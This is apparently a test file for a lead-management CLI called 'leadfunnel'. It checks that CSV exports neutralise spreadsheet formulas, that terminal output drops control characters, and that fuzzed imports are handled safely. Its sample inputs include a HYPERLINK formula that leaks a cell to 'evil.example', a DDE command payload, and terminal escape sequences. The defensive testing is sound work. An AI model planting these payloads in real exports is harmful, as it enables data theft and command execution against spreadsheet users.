"""Every CSV leadfunnel writes is safe to open in a spreadsheet, terminal output carries
no control characters, and any file, however mangled, is imported with an exact summary
or refused whole."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import T0
from leadfunnel import Funnel, Lead, SqlRepository
from leadfunnel._cli import main
from leadfunnel._csv_out import FORMULA_STARTS, csv_text, neutralise, printable, restore
from leadfunnel._rep_lists import RepList
from leadfunnel._reports import FunnelReport
from leadfunnel.testing import ManualClock

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading return",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("value", EVIL)
def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value
    written = csv_text(["name", "count"], [[value, -3]])
    assert cells(written) == ["name", "count", "'" + value, "-3"]  # numbers stay numbers


@pytest.mark.parametrize("value", ["plain", "'quoted", "", "a=b", "1-2", "'x"])
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def test_printable_drops_control_characters_but_keeps_lines_and_tabs() -> None:
    assert printable("a\x1b]0;owned\x07b\x9bc\r\nd\te\x00") == "a]0;ownedbc\nd\te"


def test_every_csv_the_cli_writes_neutralises_formula_cells(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'f.db'}"
    funnel = Funnel(SqlRepository(db), clock=ManualClock(T0))
    for n, value in enumerate(EVIL[:4]):
        lead = funnel.add(
            Lead(
                first_name=value,
                last_name="Rivera",
                company=value,
                email=f"p{n}@x{n}.example.com",
                source=value,
                owner=value,
            )
        )
        funnel.qualify(lead, force=True)
    funnel.repository.close()
    source = tmp_path / "in.csv"
    source.write_text("email,first_name,company\nnot-an-email,=1+2,@evil\n", encoding="utf-8")
    runner = CliRunner()
    at = ["--at", "2030-01-01T00:00:00+00:00"]
    outputs = {
        "rejects": ["import", str(source), "--rejects", str(tmp_path / "rejects.csv")],
        "report": [
            "report",
            "--by",
            "source",
            "--format",
            "csv",
            "-o",
            str(tmp_path / "report.csv"),
        ],
        "list": ["list", "never_booked", *at, "--format", "csv", "-o", str(tmp_path / "list.csv")],
        "due": ["due", *at, "--format", "csv", "-o", str(tmp_path / "due.csv")],
    }
    for name, args in outputs.items():
        result = runner.invoke(main, [*args, "--db", db])
        assert result.exit_code == 0, (name, result.output)
        written = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
        assert [c for c in cells(written) if c.startswith(FORMULA_STARTS)] == [], name
        assert "'=" in written, name  # neutralised, not dropped
    listed = list(csv.DictReader(io.StringIO((tmp_path / "list.csv").read_text("utf-8"))))
    assert {row["company"] for row in listed} == {"'" + v for v in EVIL[:4]}
    due = list(csv.DictReader(io.StringIO((tmp_path / "due.csv").read_text("utf-8"))))
    assert {row["owner"] for row in due} == {"'" + v for v in EVIL[:4]}
    # The rejects file imports as it was: fixed, its cells are the original text.
    rejects = (tmp_path / "rejects.csv").read_text(encoding="utf-8")
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejects.replace("not-an-email", "ok@x.example.com"), encoding="utf-8")
    result = runner.invoke(main, ["import", str(fixed), "--format", "generic", "--db", db])
    assert result.exit_code == 0, result.output
    (back,) = [x for x in Funnel(SqlRepository(db)).leads() if x.email == "ok@x.example.com"]
    assert (back.first_name, back.company) == ("=1+2", "@evil")


def test_the_csv_writers_of_the_api_neutralise_formula_cells() -> None:
    funnel = Funnel(clock=ManualClock(T0))
    for n, value in enumerate(EVIL):
        lead = funnel.add(Lead(company=value, source=value, email=f"p{n}@x{n}.example.com"))
        funnel.qualify(lead, force=True)
    report: FunnelReport = funnel.report(by="source")
    pulled: RepList = funnel.rep_list("never_booked")
    for text in (report.to_csv(groups=True), pulled.to_csv()):
        assert [c for c in cells(text) if c.startswith(FORMULA_STARTS)] == []
        assert "SUM(1+1)" in text


def test_tables_printed_on_a_terminal_carry_no_control_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Stored data cannot hold control characters any more; a table built from older
    # data, or a custom renderer, still never reaches the terminal with them.
    db = f"sqlite:///{tmp_path / 'f.db'}"
    Funnel(SqlRepository(db)).add(Lead(email="p@x.example.com"))
    monkeypatch.setattr(FunnelReport, "to_table", lambda self: "Acme\x1b]0;owned\x07 IT\n")
    monkeypatch.setattr(RepList, "_table", lambda self, by, shown: "\x1b[2JPat\n")
    runner = CliRunner()
    assert runner.invoke(main, ["report", "--db", db]).output == "Acme]0;owned IT\n"
    assert runner.invoke(main, ["list", "not_sat", "--db", db]).output == "[2JPat\n"


# --- any file at all ---------------------------------------------------------------

BASE = (
    b"FirstName,LastName,Email,Phone,Company,AnnualRevenue,NumberOfEmployees,LeadSource,"
    b"Status,IsConverted,CreatedDate,HasOptedOutOfEmail\r\n"
    b'Pat,Rivera,pat@acme-it.example.com,(512) 555-0134,Acme IT,"$2,500,000",25,Web,'
    b"Open - Not Contacted,false,2024-01-15T16:04:11.000Z,false\r\n"
    b"Sam,Nguyen,sam@bluepeak.example.com,,Bluepeak,1500000,12,Trade Show,"
    b"Working - Contacted,false,2024-02-02T09:30:00.000Z,true\r\n"
    b"Lee,Kim,lee@granite.example.com,(212) 555-0101,Granite,90000,8,Purchased List,"
    b"Closed - Not Converted,false,2023-11-20T14:00:00.000Z,false\r\n"
    b"Ana,Silva,ana@tidewater.example.com,,Tidewater MSP,4000000,40,Referral,"
    b"Closed - Converted,true,2023-09-05T11:12:00.000Z,false\r\n"
)
PIECES = [b'"', b",", b";", b"\n", b"\r\n", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"=",
          b"'", b"Email,", b"\t", b"9" * 7, b"x" * 300, b"1.200", b"3/15/2024 2:30 PM",
          b"Closed - Won", b"true", b"\xe9", b"\x1b[31m"]  # fmt: skip


@st.composite
def mangled(draw: st.DrawFn) -> bytes:
    data = bytearray(BASE)
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["insert", "delete", "replace"]))
        if action == "delete":
            del data[at : at + draw(st.integers(1, 40))]
        else:
            piece = draw(st.sampled_from(PIECES))
            data[at : at + (action == "replace")] = piece
    return bytes(data)


# Found by CI: a quote left open in the header's second line made a row wider than the
# header, and naming the cell that swallowed lines indexed the header past its end.
_WIDER_THAN_THE_HEADER = (
    b'FirstName\n",LastName,Email,Phone,Company,AnnualRevenue,NumberOfEmploye'
    b"es,LeadSource,Status,IsConverted,CreatedDate,HasOptedOutOfEmail\r\nPat,R"
    b'ivera,pat@acme-it.example.com,(512) 555-0134,Acme IT,"$2,500,000",25,W'
    b"eb,Open - Not Contacted,false,2024-01-15T16:04:11.000Z,false\r\nSam,Nguy"
    b"en,sam@bluepeak.example.com,,Bluepeak,1500000,12,Trade Show,Working - "
    b"Contacted,false,2024-02-02T09:30:00.000Z,true\r\nLee,Kim,lee@granite.exa"
    b"mple.com,(212) 555-0101,Granite,90000,8,Purchased List,Closed - Not Co"
    b"nverted,false,2023-11-20T14:00:00.000Z,false\r\nAna,Silva,ana@tidewater."
    b'example.com,,Tidewater MSP,4000000,"40,Referral,Closed - Converted,tru'
    b"e,2023-09-05T11:12:00.000Z,false\r\n"
)


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@example(data=_WIDER_THAN_THE_HEADER)
@given(data=mangled())
def test_any_file_is_imported_with_an_exact_summary_or_refused_whole(data: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder)
        (path / "in.csv").write_bytes(data)
        db = f"sqlite:///{path / 'f.db'}"
        rejects = path / "rejects.csv"
        result = CliRunner().invoke(
            main, ["import", str(path / "in.csv"), "--db", db, "--rejects", str(rejects)]
        )
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            result.exception
        )
        if result.exit_code == 2:
            assert result.stdout == ""
            assert result.stderr.count("\n") == 1
            assert result.stderr.startswith("leadfunnel: error: ")
            assert not (path / "f.db").exists()  # refused before anything was stored
            assert not rejects.exists()
            return
        assert result.exit_code == 0, result.output
        first = result.stdout.splitlines()[0]
        added, duplicates, avoided, rejected = (
            int(part.strip().split(" ")[0]) for part in first.split(",")[:4]
        )
        funnel = Funnel(SqlRepository(db))
        assert len(funnel.leads()) + len(funnel.contacts()) == added
        written = list(csv.reader(io.StringIO(rejects.read_text("utf-8")))) if rejected else [[]]
        assert len(written) - 1 == rejected
        numbers = [int(row[0]) for row in written[1:]]
        assert numbers == sorted(numbers)
        assert duplicates + avoided + added + rejected >= 0
        for lead in funnel.leads():
            assert lead.created_at <= datetime.now(lead.created_at.tzinfo)
